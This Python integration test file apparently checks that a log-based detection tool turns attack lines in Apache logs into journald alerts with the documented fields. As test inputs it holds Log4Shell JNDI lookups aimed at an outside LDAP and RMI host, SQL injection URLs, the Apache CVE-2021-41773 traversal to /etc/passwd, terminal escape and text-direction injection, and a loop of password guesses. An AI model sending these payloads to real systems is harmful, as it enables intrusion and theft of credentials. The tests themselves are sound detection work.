"""The real lwsyslog-omprog in the live chain: logger and Apache lines become alerts in the
private journald (with the documented fields) and in the messages file."""

from __future__ import annotations

import random
import re
import time
import uuid

import pytest
from conftest import WEBHOST_HOSTNAME, LiveChain

from lwsyslog import lab
from lwsyslog.lab.journal import field_values

pytestmark = pytest.mark.integration


def _marker() -> str:
    return f"m{uuid.uuid4().hex[:12]}"


def _unique_ip(prefix: str = "10") -> str:
    """An address no other test in the session uses (alerts are matched on it)."""
    a, b, c = random.randrange(1, 255), random.randrange(1, 255), random.randrange(1, 255)
    return f"{prefix}.{a}.{b}.{c}"


def _access_line(
    client: str, target: str, user_agent: str = "Mozilla/5.0", status: int = 200
) -> str:
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S %z")
    return f'{client} - - [{stamp}] "GET {target} HTTP/1.1" {status} 512 "-" "{user_agent}"'


def test_logger_attack_line_becomes_alert_with_documented_fields(live: LiveChain) -> None:
    client, marker = _unique_ip(), _marker()
    hostile_agent = "${jndi:ldap://198.51.100.9:1389/a} \u202e\x1b[31m"
    live.logger(_access_line(client, f"/{marker}", hostile_agent))

    (alert,) = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={client}")
    assert alert["SYSLOG_IDENTIFIER"] == "lwsyslog"
    assert re.fullmatch(r"[0-9a-f]{32}", str(alert["MESSAGE_ID"]))
    assert alert["PRIORITY"] == "2"  # critical
    assert alert["LWSYSLOG_RULE"] == "log4shell-jndi"
    assert alert["LWSYSLOG_CATEGORY"] == "log4shell"
    assert alert["LWSYSLOG_SEVERITY"] == "critical"
    assert alert["LWSYSLOG_CLIENT_IP"] == client
    assert alert["LWSYSLOG_HOST"] == WEBHOST_HOSTNAME
    assert alert["LWSYSLOG_LOG"] == "access"
    assert str(alert["LWSYSLOG_SOURCE"]).startswith(f"{WEBHOST_HOSTNAME}/apache-access:")
    sample = str(alert["LWSYSLOG_SAMPLE"])
    assert marker in sample and "${jndi:ldap://198.51.100.9:1389/a}" in sample
    # The right-to-left override is made visible, the escape was already #033 from rsyslog.
    assert "\\u202e" in sample and "\u202e" not in sample
    assert "\x1b" not in sample and "#033[31m" in sample

    (line,) = [line for line in live.messages_lines() if marker in line]
    assert " critical log4shell-jndi " in line and f"client={client}" in line
    assert "\\u202e" in line and "\u202e" not in line


def test_journal_filters_select_one_client_and_one_rule(live: LiveChain) -> None:
    first, second = _unique_ip(), _unique_ip()
    marker = _marker()
    sqli = f"/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--&{marker}"
    live.logger(_access_line(first, sqli))
    live.logger(_access_line(second, f"/{marker}", "${jndi:rmi://198.51.100.9/x}"))
    live.wait_alerts(f"LWSYSLOG_CLIENT_IP={second}")

    (only_first,) = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={first}")
    assert only_first["LWSYSLOG_CATEGORY"] == "sqli"
    assert first in str(only_first["LWSYSLOG_SAMPLE"])

    by_rule = live.alerts(f"MESSAGE_ID={only_first['MESSAGE_ID']}")
    assert {a["LWSYSLOG_RULE"] for a in by_rule} == {only_first["LWSYSLOG_RULE"]}
    assert second not in {a["LWSYSLOG_CLIENT_IP"] for a in by_rule}
    # `journalctl -p err -t lwsyslog` lists the critical log4shell alert of the second client.
    errors = live.journal.entries("-p", "err", "-t", "lwsyslog")
    assert any(e.get("LWSYSLOG_CLIENT_IP") == second for e in errors)


def test_journalctl_finds_a_known_exploit_by_each_of_its_cves(live: LiveChain) -> None:
    # The Apache 2.4.49/2.4.50 traversal names two CVEs: each is its own LWSYSLOG_CVE value, so
    # the README's `journalctl LWSYSLOG_CVE=CVE-2021-41773` finds the alert (journalctl
    # matches a field's whole value, and a comma-joined one would match neither).
    client, marker = _unique_ip(), _marker()
    live.logger(_access_line(client, f"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd?{marker}"))

    (alert,) = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={client}")
    assert field_values(alert, "LWSYSLOG_CVE") == ["CVE-2021-41773", "CVE-2021-42013"]
    assert "known-exploit" in field_values(alert, "LWSYSLOG_CATEGORY")
    for cve in ("CVE-2021-41773", "CVE-2021-42013"):
        found = live.alerts(f"LWSYSLOG_CVE={cve}", f"LWSYSLOG_CLIENT_IP={client}")
        assert [a["MESSAGE_ID"] for a in found] == [alert["MESSAGE_ID"]]
    found = live.alerts("LWSYSLOG_CATEGORY=known-exploit", f"LWSYSLOG_CLIENT_IP={client}")
    assert len(found) == 1
    assert live.alerts("LWSYSLOG_CVE=CVE-2021-41773,CVE-2021-42013") == []


def test_apache_attack_requests_reach_journald(live: LiveChain) -> None:
    assert live.apache is not None
    attacker, guesser, marker = _unique_ip("127"), _unique_ip("127"), _marker()
    url = live.apache.url(f"/index.html?q={marker}&id=1%27%20UNION%20SELECT%201,2,3--")
    assert lab.fetch(url, source=attacker) == 200
    for n in range(12):
        status = lab.fetch(
            live.apache.url(f"/private/secret.txt?{marker}"),
            source=guesser,
            basic_auth=(lab.ApacheInstance.USER, f"wrong{n}"),
        )
        assert status == 401

    alerts = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={attacker}")
    assert {a["LWSYSLOG_CATEGORY"] for a in alerts} == {"sqli"}
    alert = alerts[0]
    assert alert["LWSYSLOG_HOST"] == WEBHOST_HOSTNAME
    assert str(alert["LWSYSLOG_SOURCE"]).startswith(f"{WEBHOST_HOSTNAME}/apache-access:")
    (logged,) = [
        line for line in live.apache.access_log.read_text().splitlines() if attacker in line
    ]
    assert alert["LWSYSLOG_SAMPLE"] == logged  # exactly what Apache wrote

    (brute,) = live.wait_alerts(
        f"LWSYSLOG_CLIENT_IP={guesser}", "LWSYSLOG_RULE=auth-brute-force", timeout=30
    )
    assert brute["LWSYSLOG_COUNT"] == "10"
    assert any(f"auth-brute-force client={guesser}" in line for line in live.messages_lines())
